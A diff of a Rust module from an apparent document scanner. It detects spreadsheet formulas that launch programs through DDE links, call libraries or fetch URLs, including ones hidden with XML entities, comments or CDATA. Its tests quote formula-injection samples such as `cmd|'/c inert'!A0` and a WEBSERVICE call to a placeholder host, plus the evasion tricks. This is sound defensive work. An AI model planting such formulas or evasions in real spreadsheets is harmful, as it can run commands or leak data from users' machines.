@@ -1,50 +1,49 @@
-//! Formulas of sheets and names in packages that do more than compute, ECMA-376-1 18.3.1.40, 18.2.5
-//! and 18.17.
+//! Formulas of sheets and names in packages that do more than compute, ECMA-376-1 18.17.
 //!
-//! `program|topic!item` starts a program; Excel takes it from a cell that another program wrote.
-//! `CALL` and `REGISTER.ID` call a library; `WEBSERVICE`, `RTD` and `IMAGE` fetch.
+//! | element | where it stands | clause |
+//! |---|---|---|
+//! | `f` | a cell; in extensions also what stands in the others | 18.3.1.40 |
+//! | `definedName` | a name of the workbook | 18.2.5 |
+//! | `formula` | a rule of conditional formatting | 18.3.1.43 |
+//! | `cfvo val` | a bound of one | 18.3.1.11 |
+//! | `formula1`, `formula2` | a rule for what may be entered | 18.3.1.32 |
+
+use memchr::memchr;
 
 use super::Outside;
 use super::elements::{self, Node};
-use crate::limits::Limit;
+use crate::container::opc::xml;
+use crate::limits::{Limit, Spent};
 use crate::observe::Ledger;
+use crate::project::formula::{loads_of, may_act, may_call};
 use crate::project::{Load, LoadKind};
 
 /// How much of a formula is kept, in bytes. Excel takes 8,192 characters.
 const LONGEST: usize = 32_768;
-/// Signs of any of them, so that most sheets are not read as XML at all.
-const MARKS: &[&str] = &[
-    "|",
-    "WEBSERVICE",
-    "webservice",
-    "CALL(",
-    "call(",
-    "REGISTER",
-    "register",
-    "RTD(",
-    "rtd(",
-    "IMAGE(",
-    "image(",
-    "EXEC(",
-    "exec(",
-];
-const FUNCTIONS: &[&str] = &[
-    "WEBSERVICE",
-    "CALL",
-    "REGISTER",
-    "REGISTER.ID",
-    "RTD",
-    "IMAGE",
-    "EXEC",
-];
+/// What can hide a bar or a call from those who do not read XML. Excel writes neither, apart from
+/// the declaration.
+const HIDES: &[&str] = &["&#", "<!", "<?"];
 
 /// Looks through the formulas of a sheet, or of the names of a workbook.
 pub fn inspect_formulas(part: &[u8], name: &str, found: &mut Outside, ledger: &mut Ledger) {
+    let Some(text) = xml::text_of_part(part, name, ledger) else {
+        return;
+    };
+    if !is_of_concern(&text) {
+        return;
+    }
     let mut formula: Option<String> = None;
-    elements::read(part, name, MARKS, ledger, |node, ledger| {
+    elements::walk(&text, name, ledger, |node, ledger| {
         match node {
-            Node::Open(local, _) => {
-                formula = matches!(local, "f" | "definedName").then(String::new);
+            Node::Open(local, element) => {
+                let holds = matches!(
+                    local,
+                    "f" | "definedName" | "formula" | "formula1" | "formula2"
+                );
+                formula = holds.then(String::new);
+                if local == "cfvo" {
+                    formula = elements::attribute(element, "val");
+                }
             }
             Node::Text(piece) => {
                 if let Some(formula) = &mut formula
@@ -54,15 +53,8 @@ pub fn inspect_formulas(part: &[u8], name: &str, found: &mut Outside, ledger: &m
                 }
             }
             Node::Close => {
-                if let Some(formula) = formula.take()
-                    && let Some(kind) = kind_of(&formula)
-                {
-                    ledger.charge(Limit::Entries, 1)?;
-                    found.loads.push(Load {
-                        kind,
-                        target: formula.trim().to_owned(),
-                        place: name.to_owned(),
-                    });
+                if let Some(formula) = formula.take() {
+                    judge(&formula, name, &mut found.loads, ledger)?;
                 }
             }
         }
@@ -70,42 +62,37 @@ pub fn inspect_formulas(part: &[u8], name: &str, found: &mut Outside, ledger: &m
     });
 }
 
-/// What a formula does, if it does more than compute. What stands in quotes is text.
-fn kind_of(formula: &str) -> Option<LoadKind> {
-    let mut quote = None;
-    for (at, byte) in formula.bytes().enumerate() {
-        match (quote, byte) {
-            (Some(open), _) if open == byte => quote = None,
-            (Some(_), _) => {}
-            (None, b'"' | b'\'') => quote = Some(byte),
-            // No operator of formulas.
-            (None, b'|') if is_link(formula, at) => return Some(LoadKind::DdeFormula),
-            (None, b'(') if is_function(formula, at) => return Some(LoadKind::Formula),
-            _ => {}
-        }
+/// Whether anything in the text of a sheet can act, told without reading it as XML: most sheets
+/// have not even a bracket.
+fn is_of_concern(text: &str) -> bool {
+    let text = text.trim_start_matches('\u{FEFF}');
+    let text = text.strip_prefix("<?xml").unwrap_or(text);
+    // Quotes around a topic are references here, more often than not.
+    memchr(b'|', text.as_bytes()).is_some()
+        || may_call(text.as_bytes())
+        || elements::has(text, HIDES)
+}
+
+fn judge(
+    formula: &str,
+    name: &str,
+    found: &mut Vec<Load>,
+    ledger: &mut Ledger,
+) -> Result<(), Spent> {
+    if !may_act(formula.as_bytes()) {
+        return Ok(());
     }
-    None
-}
-
-/// Whether a program stands before a bar, and `!` somewhere behind it.
-fn is_link(formula: &str, bar: usize) -> bool {
-    let (before, after) = formula.split_at_checked(bar).unwrap_or_default();
-    before.ends_with(|c: char| c.is_alphanumeric() || matches!(c, '_' | '\'' | '.'))
-        && after.contains('!')
-}
-
-/// Whether one of the functions opens its arguments here.
-fn is_function(formula: &str, open: usize) -> bool {
-    let before = formula.get(..open).unwrap_or_default().trim_end();
-    let start = before
-        .rfind(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '_')))
-        .map_or(0, |at| at.saturating_add(1));
-    let word = before.get(start..).unwrap_or_default();
-    let word = word
-        .strip_prefix("_xlfn.")
-        .or_else(|| word.strip_prefix("_xll."))
-        .unwrap_or(word);
-    FUNCTIONS.iter().any(|one| word.eq_ignore_ascii_case(one))
+    let from = found.len();
+    loads_of(formula, name, found);
+    // Other workbooks are told by the parts that link them: here they are numbers.
+    let mut at = 0_usize;
+    found.retain(|load| {
+        let own = at >= from;
+        at = at.saturating_add(1);
+        !(own && load.kind == LoadKind::Workbook)
+    });
+    let new = found.len().saturating_sub(from);
+    ledger.charge(Limit::Entries, new as u64)
 }
 
 #[cfg(test)]
@@ -113,42 +100,61 @@ mod tests {
     use super::*;
     use crate::limits::Limits;
 
+    fn loads(body: &str) -> Vec<(LoadKind, String)> {
+        let part = format!("<?xml version='1.0'?><worksheet>{body}<v>1|2!</v></worksheet>");
+        let mut ledger = Ledger::new(Limits::mail());
+        let mut found = Outside::default();
+        inspect_formulas(part.as_bytes(), "sheet1.xml", &mut found, &mut ledger);
+        let loads = found.loads.into_iter();
+        loads.map(|load| (load.kind, load.target)).collect()
+    }
+
     #[test]
     fn formulas_that_do_more_than_compute() {
         for (formula, kind) in [
-            ("cmd|'/c inert'!A0", Some(LoadKind::DdeFormula)),
-            ("1+cmd|' /c inert'!'x'", Some(LoadKind::DdeFormula)),
-            ("'Excel'|Sheet1!R1C1", Some(LoadKind::DdeFormula)),
+            ("cmd|'/c inert'!A0", LoadKind::DdeFormula),
             (
-                "_xlfn.WEBSERVICE(\"https://example.invalid/\"&A1)",
-                Some(LoadKind::Formula),
+                "_xlfn.WebService(\"https://example.invalid/\"&A1)",
+                LoadKind::Formula,
             ),
-            (
-                "IF(A1,CALL(\"inert\",\"x\",\"J\"))",
-                Some(LoadKind::Formula),
-            ),
-            ("REGISTER.ID (\"inert\",\"x\")", Some(LoadKind::Formula)),
-            ("A1&\"|\"&B1&\"!\"", None),
-            ("'a|b'!A1", None),
-            ("\"cmd|'/c inert'!A0\"", None),
-            ("HYPERLINK(\"https://example.invalid/\"&A1,\"x\")", None),
-            ("RECALL(1)+\"CALL(\"", None),
         ] {
             let text = quick_xml::escape::escape(formula);
-            let part = format!("<worksheet><c r='A1'><f>{text}</f><v>1|2!</v></c></worksheet>");
-            let mut ledger = Ledger::new(Limits::mail());
-            let mut found = Outside::default();
-            inspect_formulas(part.as_bytes(), "sheet1.xml", &mut found, &mut ledger);
-            let loads: Vec<_> = found
-                .loads
-                .iter()
-                .map(|one| (one.kind, &*one.target))
-                .collect();
-            assert_eq!(
-                loads,
-                Vec::from_iter(kind.map(|kind| (kind, formula))),
-                "{formula}"
-            );
+            for body in [
+                format!("<c r='A1'><f>{text}</f></c>"),
+                format!("<cfRule type='expression'><formula>{text}</formula></cfRule>"),
+                format!("<cfRule><cfvo type='formula' val=\"{text}\"/></cfRule>"),
+                format!("<dataValidation><formula1>{text}</formula1></dataValidation>"),
+                format!("<dataValidation><formula2>{text}</formula2></dataValidation>"),
+                format!("<x14:cfRule><xm:f>{text}</xm:f></x14:cfRule>"),
+                format!("<definedName>{text}</definedName>"),
+            ] {
+                assert_eq!(loads(&body), [(kind, formula.to_owned())], "{body}");
+            }
         }
+    }
+
+    #[test]
+    fn what_hides_a_call_from_those_who_do_not_read_xml() {
+        for formula in [
+            "WEBSERVICE&#40;A1)",
+            "&#x57;EBSERVICE(A1)",
+            "WEB<!-- -->SERVICE(A1)",
+            "<![CDATA[WEBSERV]]>ICE(A1)",
+            "WEB<?x?>SERVICE(A1)",
+        ] {
+            let found = loads(&format!("<c><f>{formula}</f></c>"));
+            let expected = (LoadKind::Formula, "WEBSERVICE(A1)".to_owned());
+            assert_eq!(found, [expected], "{formula}");
+        }
+    }
+
+    #[test]
+    fn ordinary_formulas_load_nothing() {
+        for formula in ["A1&amp;\"|\"&amp;B1", "[1]S!A1*2", "SUM(Table1[a])"] {
+            assert_eq!(loads(&format!("<c><f>{formula}</f></c>")), [], "{formula}");
+        }
+        assert!(!is_of_concern(
+            "<?xml version='1.0'?><c><f>SUM(A1:B2)</f></c>"
+        ));
     }
 }
